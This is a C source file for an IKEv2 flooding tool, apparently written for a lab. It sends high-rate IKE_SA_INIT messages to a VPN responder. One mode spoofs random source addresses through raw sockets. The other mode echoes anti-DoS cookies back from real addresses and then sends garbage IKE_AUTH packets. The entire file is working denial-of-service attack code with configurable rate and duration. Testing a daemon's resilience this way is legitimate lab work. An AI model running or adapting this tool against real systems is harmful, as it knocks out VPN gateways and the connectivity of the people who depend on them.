/* An attacker of the lab: floods a host with first messages of IKEv2 (RFC 7296 §1.2).
 *
 *   flood forge TARGET RATE SECONDS            sources forged, all over 10.0.0.0/8; nobody answers
 *   flood echo TARGET RATE SECONDS SOURCE...   real addresses, that bring cookies back and then send
 *                                              IKE_AUTH that is garbage
 *
 * RATE is messages a second. Prints what was sent, and what came back, when the time is over.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { TICK_MS = 10, IKE_PORT = 500, MAX_MESSAGE = 512, MAX_SOURCES = 64 };
enum { SA = 33, KE = 34, NONCE = 40, NOTIFY = 41, SK = 46, COOKIE = 16390 };
enum { IKE_SA_INIT = 34, IKE_AUTH = 35, FROM_INITIATOR = 0x08 };

/* AES-GCM-16 with 128 bits, HMAC-SHA2-256, Curve25519: what the daemon would choose. */
static const uint8_t proposal[] = {
  0, 0, 0, 36, 1, 1, 0, 3,
  3, 0, 0, 12, 1, 0, 0, 20, 0x80, 14, 0, 128,
  3, 0, 0, 8, 2, 0, 0, 5,
  0, 0, 0, 8, 4, 0, 0, 31,
};

static uint64_t random_state;

static uint64_t next_random(void) {
  random_state ^= random_state << 13;
  random_state ^= random_state >> 7;
  random_state ^= random_state << 17;
  return random_state;
}

struct message {
  uint8_t bytes[MAX_MESSAGE];
  size_t length;
};

static void put(struct message *m, const void *data, size_t length) {
  memcpy(m->bytes + m->length, data, length);
  m->length += length;
}

static void put_header(struct message *m, const uint8_t spi[16], int next, int exchange, int id) {
  const uint8_t rest[] = {(uint8_t)next, 0x20, (uint8_t)exchange, FROM_INITIATOR, 0, 0, 0, (uint8_t)id, 0, 0, 0, 0};
  m->length = 0;
  put(m, spi, 16);
  put(m, rest, sizeof rest);
}

static void put_payload(struct message *m, int next, const void *body, size_t length) {
  const uint8_t head[] = {(uint8_t)next, 0, (uint8_t)((length + 4) >> 8), (uint8_t)(length + 4)};
  put(m, head, sizeof head);
  put(m, body, length);
}

static void put_length(struct message *m) {
  m->bytes[26] = (uint8_t)(m->length >> 8);
  m->bytes[27] = (uint8_t)m->length;
}

/* The public value and the nonce are made of the SPI, so that the same comes again with a cookie. */
static void make_first(struct message *m, const uint8_t spi[8], const uint8_t *cookie, size_t cookie_length) {
  uint8_t both[16] = {0}, ke[36] = {0, 31}, nonce[32], notify[128] = {0, 0, COOKIE >> 8, COOKIE & 255};
  memcpy(both, spi, 8);
  for (size_t i = 0; i < 32; i++) ke[4 + i] = nonce[i] = (uint8_t)(spi[i % 8] + i);
  put_header(m, both, cookie ? NOTIFY : SA, IKE_SA_INIT, 0);
  if (cookie) {
    memcpy(notify + 4, cookie, cookie_length);
    put_payload(m, SA, notify, 4 + cookie_length);
  }
  put_payload(m, KE, proposal, sizeof proposal);
  put_payload(m, NONCE, ke, sizeof ke);
  put_payload(m, 0, nonce, sizeof nonce);
  put_length(m);
}

static void make_garbage(struct message *m, const uint8_t spi[16]) {
  uint8_t body[160];
  for (size_t i = 0; i < sizeof body; i++) body[i] = (uint8_t)next_random();
  put_header(m, spi, SK, IKE_AUTH, 1);
  put_payload(m, 35, body, sizeof body);
  put_length(m);
}

static uint64_t now_ms(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return (uint64_t)now.tv_sec * 1000 + (uint64_t)now.tv_nsec / 1000000;
}

static void die(const char *what) {
  perror(what);
  exit(1);
}

static struct in_addr target;
static unsigned long sent, cookies, answered;

static void send_forged(int raw) {
  struct message m;
  uint64_t spi = next_random();
  uint8_t packet[sizeof(struct iphdr) + sizeof(struct udphdr) + MAX_MESSAGE];
  struct iphdr ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP};
  struct udphdr udp = {.source = htons(IKE_PORT), .dest = htons(IKE_PORT)};
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = target};

  make_first(&m, (const uint8_t *)&spi, NULL, 0);
  ip.saddr = htonl(0x0a000000u | (uint32_t)(next_random() & 0xffffff));
  ip.daddr = target.s_addr;
  udp.len = htons((uint16_t)(sizeof udp + m.length));
  memcpy(packet, &ip, sizeof ip);
  memcpy(packet + sizeof ip, &udp, sizeof udp);
  memcpy(packet + sizeof ip + sizeof udp, m.bytes, m.length);
  if (sendto(raw, packet, sizeof ip + sizeof udp + m.length, 0, (struct sockaddr *)&to, sizeof to) > 0) sent++;
}

static void send_real(int udp) {
  struct message m;
  uint64_t spi = next_random();

  make_first(&m, (const uint8_t *)&spi, NULL, 0);
  if (send(udp, m.bytes, m.length, 0) > 0) sent++;
}

static void answer(int udp) {
  uint8_t in[2048];
  struct message m;
  ssize_t length;

  while ((length = recv(udp, in, sizeof in, MSG_DONTWAIT)) > 0) {
    if (length < 36 || in[18] != IKE_SA_INIT) continue;
    if (in[16] == NOTIFY && in[34] * 256 + in[35] == COOKIE && length - 36 <= 64) {
      cookies++;
      make_first(&m, in, in + 36, (size_t)length - 36);
    } else if (in[16] == SA) {
      answered++;
      make_garbage(&m, in);
    } else continue;
    if (send(udp, m.bytes, m.length, 0) > 0) sent++;
  }
}

static int open_real(const char *source) {
  struct sockaddr_in from = {.sin_family = AF_INET}, to = {.sin_family = AF_INET, .sin_port = htons(IKE_PORT), .sin_addr = target};
  int udp = socket(AF_INET, SOCK_DGRAM, 0);

  if (inet_pton(AF_INET, source, &from.sin_addr) != 1) die(source);
  if (udp < 0 || bind(udp, (struct sockaddr *)&from, sizeof from) < 0) die("bind");
  if (connect(udp, (struct sockaddr *)&to, sizeof to) < 0) die("connect");
  return udp;
}

int main(int argc, char **argv) {
  int sockets[MAX_SOURCES], count = 0, is_forged;
  unsigned long rate;
  uint64_t begin = now_ms(), end;

  if (argc < 5 || inet_pton(AF_INET, argv[2], &target) != 1 || argc - 5 > MAX_SOURCES) {
    fprintf(stderr, "usage: flood forge|echo TARGET RATE SECONDS [SOURCE...]\n");
    return 2;
  }
  is_forged = strcmp(argv[1], "forge") == 0;
  rate = strtoul(argv[3], NULL, 10);
  end = begin + strtoul(argv[4], NULL, 10) * 1000;
  random_state = begin * 2654435761u + (uint64_t)getpid() + 1;
  if (is_forged) {
    sockets[count++] = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (sockets[0] < 0) die("raw socket");
  } else
    while (count < argc - 5) {
      sockets[count] = open_real(argv[5 + count]);
      count++;
    }
  printf("flood begins\n");
  fflush(stdout);
  for (unsigned long begun = 0; now_ms() < end; usleep(TICK_MS * 1000)) {
    unsigned long due = (unsigned long)((now_ms() - begin) * rate / 1000);
    if (due > begun + rate) begun = due - rate; /* it could not keep up: no more than a second at once */
    for (; begun < due; begun++) {
      int socket = sockets[begun % (unsigned long)count];
      if (is_forged) send_forged(socket);
      else send_real(socket);
    }
    for (int i = 0; !is_forged && i < count; i++) answer(sockets[i]);
  }
  printf("flood ends: %lu sent in %llu ms, %lu cookies, %lu answers\n", sent,
         (unsigned long long)(now_ms() - begin), cookies, answered);
  return 0;
}
